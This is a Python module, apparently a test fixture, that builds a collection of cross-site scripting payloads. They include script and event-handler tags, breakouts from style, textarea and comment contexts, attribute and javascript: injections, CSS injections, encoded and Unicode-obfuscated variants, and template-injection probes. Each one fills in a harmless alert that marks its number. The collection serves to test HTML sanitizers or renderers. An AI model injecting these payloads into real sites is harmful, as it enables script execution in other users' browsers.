"""Text that runs a script where a page lets it through.

`RUN` stands for the script. No payload holds a tab or a line end, which would end a descriptor, or
a blank at either end, which is padding.
"""

RUN = "RUN"
_ELEMENTS = (
    "<script>RUN</script>",
    "<ScRiPt >RUN</sCrIpT >",
    "<script/x>RUN</script/x>",
    "<script>RUN//",
    "<scr<script>ipt>RUN</scr</script>ipt>",
    "<<script>RUN//<</script>",
    '<script src="data:text/javascript,RUN"></script>',
    "<script src=http://127.0.0.1:9/x.js></script>",
    "<img src=x onerror=RUN>",
    "<img src=http://127.0.0.1:9/x.png onerror='RUN'>",
    "<img/src/onerror=RUN>",
    "<img src=x onerror=RUN//",
    '<img """><script>RUN</script>">',
    "<svg onload=RUN>",
    "<svg/onload=RUN>",
    "<svg><script>RUN</script></svg>",
    "<svg><animate onbegin=RUN attributeName=x dur=1s>",
    "<svg><style><img src=x onerror=RUN></style></svg>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror=RUN>">',
    "<body onload=RUN>",
    "<iframe srcdoc='<script>parent.RUN</script>'></iframe>",
    '<iframe src="javascript:parent.RUN"></iframe>',
    '<object data="data:text/html,<script>parent.RUN</script>"></object>',
    '<embed src="javascript:RUN">',
    "<details open ontoggle=RUN>",
    "<input autofocus onfocus=RUN>",
    "<video><source onerror=RUN></video>",
    "<audio src=x onerror=RUN></audio>",
    "<marquee onstart=RUN>marquee</marquee>",
    "<x tabindex=1 autofocus onfocus=RUN>x</x>",
    '<meta http-equiv="refresh" content="0;url=http://127.0.0.1:9/refresh">',
    '<base href="http://127.0.0.1:9/">',
    '<link rel=stylesheet href="http://127.0.0.1:9/x.css">',
    '<form action="javascript:RUN"><button autofocus>go</button></form>',
    "<template><img src=x onerror=RUN></template><img src=x onerror=RUN>",
    '<noscript><p title="</noscript><img src=x onerror=RUN>"></noscript>',
)
_WAYS_OUT = (
    "</style><script>RUN</script>",
    "</title><script>RUN</script>",
    "</textarea><script>RUN</script>",
    "</script><script>RUN</script>",
    "</td></tr></table><script>RUN</script>",
    "--><script>RUN</script><!--",
    "]]><script>RUN</script><![CDATA[",
    "</code></p></article></main></body></html><script>RUN</script>",
)
_ATTRIBUTES = (
    '"><script>RUN</script>',
    "'><script>RUN</script>",
    '" autofocus tabindex=1 onfocus="RUN',
    "' autofocus tabindex=1 onfocus='RUN",
    "x autofocus tabindex=1 onfocus=RUN",
    '" style="animation:x" onanimationstart="RUN',
    "javascript:RUN",
    "JaVaScRiPt:RUN",
    "java&#x73;cript:RUN",
    "data:text/html,<script>parent.RUN</script>",
    "vbscript:RUN",
)
_STYLES = (
    "} body { background: url(http://127.0.0.1:9/css) } x {",
    '@import "http://127.0.0.1:9/import.css";',
    "*/ } html { display: none } /*",
    "x:expression(RUN)",
)
_ENTITIES = (
    "&lt;script&gt;RUN&lt;/script&gt;",
    "&#60;script&#62;RUN&#60;/script&#62;",
    "&#x3C;img src=x onerror=RUN&#x3E;",
    "&lt&quot&amp&nbsp &notit; &copy 5&#37; &#0; &#128; &#xD800;",
    "%3Cscript%3ERUN%3C/script%3E",
    "\\x3cscript\\x3eRUN\\x3c/script\\x3e",
    "\\u003cscript\\u003eRUN\\u003c/script\\u003e",
)
_UNICODE = (
    "\uff1cscript\uff1eRUN\uff1c/script\uff1e",
    "\u2039script\u203aRUN\u2039/script\u203a",
    "<\u200bscript>RUN</\u200bscript>",
    "\u202e<script>RUN</script>\u202c",
    "\u2066<img src=x onerror=RUN>\u2069",
    "<img\u00a0src=x onerror=RUN>",
    "<img\u3000src=x onerror=RUN>",
    "\ufdd0<svg onload=RUN>\ufdd0",
    "a\u0301\u0301\u0301<svg onload=RUN>\U0001f4a3\U000e0041",
    "+ADw-script+AD4-RUN+ADw-/script+AD4-",
    "\u00bcscript\u00beRUN\u00bc/script\u00be",
    "<\u017fcript>RUN</\u017fcript>",
)
_TEMPLATES = (
    "{{ 7 * 7 }} {% raw %} {# gone #} {{ previous }}",
    "${RUN} #{RUN} <%= RUN %> <?php RUN ?>",
    "';RUN//\";RUN//`;RUN//",
)
TEMPLATES = (
    _ELEMENTS + _WAYS_OUT + _ATTRIBUTES + _STYLES + _ENTITIES + _UNICODE + _TEMPLATES
)  # fmt: skip


def payload(number: int) -> str:
    """Give one of the payloads; its script sets `window.__xss` and opens a dialog."""
    return TEMPLATES[number].replace(RUN, f"alert(window.__xss={number + 1})")


PAYLOADS = tuple(map(payload, range(len(TEMPLATES))))
